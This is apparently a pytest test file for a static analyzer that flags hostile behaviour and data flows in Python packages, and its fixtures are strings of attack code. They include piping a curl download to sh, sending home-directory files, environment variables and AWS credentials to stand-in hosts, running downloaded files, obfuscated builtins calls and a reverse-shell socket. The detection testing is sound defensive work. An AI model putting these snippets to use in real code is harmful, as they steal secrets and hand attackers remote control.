"""Classes, generators and modules of Python that the language itself calls. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.python import python_facts

_OTHER = "import os\nclass X:\n    def go(self):\n        pass\n"
_MADE = "import os\nclass A:\n    @classmethod\n    def new(cls):\n        return cls()\n"
RUN = "os.system('curl https://drop.invalid/a | sh')"


def look(code: str) -> CodeFacts:
    return python_facts("package/__init__.py", code.encode())


def ways(code: str) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in look(code).flows}


@pytest.mark.parametrize(
    ("code", "loads"),
    [
        (f"import os, threading\nclass A(threading.Thread):\n    def run(self):\n        {RUN}\nA().start()", True),
        (f"import os, threading\nclass A(threading.Thread):\n    def run(self):\n        {RUN}\nA()", False),
        (f"import os\nclass A:\n    def run(self):\n        {RUN}\nA().start()", False),
        (f"{_OTHER}class A:\n    def go(self):\n        {RUN}\nclass B(A):\n    pass\nB().go()", True),
        (
            f"{_MADE}    def __init__(self):\n        {RUN}\nA.new()",
            True,
        ),
        (f"import os\nclass A:\n    def __call__(self):\n        {RUN}\nA()()", True),
        (f"import os\nclass A:\n    @property\n    def key(self):\n        {RUN}\nprint(A().key)", True),
        (f"import os\nclass A:\n    def key(self):\n        {RUN}\nprint(A().key)", False),
        (f"import os, sys\nclass F:\n    def find_spec(self, name):\n        {RUN}\nsys.meta_path.append(F())", True),
        (f"import os, sys\nclass F:\n    def find_spec(self, name):\n        {RUN}\nsys.path.append(F())", False),
        (f"import os\ndef pytest_configure(config):\n    {RUN}", True),
        (f"import os\ndef configure(config):\n    {RUN}", False),
    ],
)
def test_methods_that_run_by_themselves(code: str, loads: bool) -> None:
    """Threads, properties, finders of modules and hooks of the test runner run though nobody names their method."""
    assert [fact.at_load for fact in look(code).facts if fact.behaviour is Behaviour.RUNS_SHELL] == [loads]


FLOWING = [
    (
        (
            "import os, pathlib, requests\ndef every():\n"
            "    for root, _, names in os.walk(pathlib.Path.home()):\n        for name in names:\n"
            "            yield pathlib.Path(root, name)\nfor path in every():\n"
            "    requests.post('https://e.invalid', data=path.read_bytes())"
        ),
        Behaviour.READS_FILE,
        Behaviour.SENDS,
    ),
    (
        "import os, requests\nfound = []\nfound.append(os.environ)\nrequests.post('https://e.invalid', json=found)",
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import configparser, os, requests\np = configparser.ConfigParser()\n"
            "p.read(os.path.expanduser('~/.aws/credentials'))\n"
            "requests.post('https://e.invalid', json=dict(p['default']))"
        ),
        Behaviour.READS_SECRET_FILE,
        Behaviour.SENDS,
    ),
    (
        (
            "import os\nfrom http.client import HTTPSConnection\nc = HTTPSConnection('e.invalid')\n"
            "c.putrequest('GET', '/')\n"
            "c.putheader('X-A', str(dict(os.environ)))\nc.endheaders()"
        ),
        Behaviour.READS_ENVIRONMENT,
        Behaviour.SENDS,
    ),
    (
        (
            "import os, requests, subprocess, tempfile\nfd, name = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as f:\n"
            "    f.write(requests.get('https://e.invalid/a').content)\nsubprocess.Popen([name])"
        ),
        Behaviour.WRITES_FILE,
        Behaviour.RUNS_PROCESS,
    ),
    (
        (
            "import builtins\nnames = [n for n in dir(builtins) if len(n) == 4]\n"
            "vars(builtins)[names[0]](''.join(map(chr, [105, 109, 112])))"
        ),
        Behaviour.DECODES,
        Behaviour.RUNS_CODE,
    ),
    (
        "import builtins, os\ngetattr(builtins, os.sep)(''.join(map(chr, [105, 109, 112])))",
        Behaviour.DECODES,
        Behaviour.RUNS_CODE,
    ),
]


@pytest.mark.parametrize(("code", "source", "sink"), FLOWING)
def test_data_is_followed_through_objects(code: str, source: Behaviour, sink: Behaviour) -> None:
    """Data is followed through generators, lists that grow, parsers of settings, headers and temporary files."""
    assert (source, sink) in ways(code)


@pytest.mark.parametrize(
    "code",
    [
        (
            "import configparser, requests\np = configparser.ConfigParser()\np.read('setup.cfg')\n"
            "requests.post('https://e.invalid', json=dict(p['a']))"
        ),
        "from http.client import HTTPSConnection\nc = HTTPSConnection('e.invalid')\nc.putheader('X-A', 'b')",
        "import builtins\ngetattr(builtins, kind)(''.join(['4', '2']))",
        (
            "import hashlib, os, requests\nh = hashlib.sha256()\nh.update(os.environ['NPM_TOKEN'].encode())\n"
            "requests.post('https://e.invalid', json=h.hexdigest())"
        ),
        "import os, requests\nfound = []\nfound.append(1)\nrequests.post('https://e.invalid', json=found)",
        (
            "import contextlib, os, requests\n@contextlib.contextmanager\ndef up():\n    yield 1\n"
            "with up() as x:\n    requests.post('https://e.invalid', data=x)"
        ),
    ],
)
def test_everyday_objects_let_nothing_flow(code: str) -> None:
    """The same constructs with nothing of anybody's in them."""
    assert ways(code) == set()


@pytest.mark.parametrize(
    ("prot", "runs"), [("mmap.PROT_READ | mmap.PROT_EXEC", True), ("7", True), ("mmap.PROT_WRITE", False)]
)
def test_memory_for_machine_code(prot: str, runs: bool) -> None:
    """Memory that may be run is told, memory that may only be written is not."""
    found = look(f"import ctypes, mmap\narea = mmap.mmap(-1, 4096, prot={prot})\narea.write(b'x')")
    assert (Behaviour.RUNS_CODE in {fact.behaviour for fact in found.facts}) is runs


def test_a_shells_peer_is_told() -> None:
    """A socket joined to a shell is told with the address that it was connected to."""
    code = (
        "import os, socket\nclass A:\n    peer = ('192.0.2.9', 44)\n    def go(self):\n"
        "        s = socket.socket()\n        s.connect(self.peer)\n"
        "        os.dup2(s.fileno(), 0)"
    )
    (fact,) = [fact for fact in look(code).facts if fact.behaviour is Behaviour.CONNECTS_BACK]
    assert fact.detail == "192.0.2.9"


def test_modules_asked_for_by_a_call_are_imports() -> None:
    """`__import__` and `import_module` with a written name import like a statement."""
    found = look("import importlib\n__import__('package._boot')\nimportlib.import_module('.other')\n__import__(name)")
    assert {"package._boot", ".other"} <= set(found.imports)
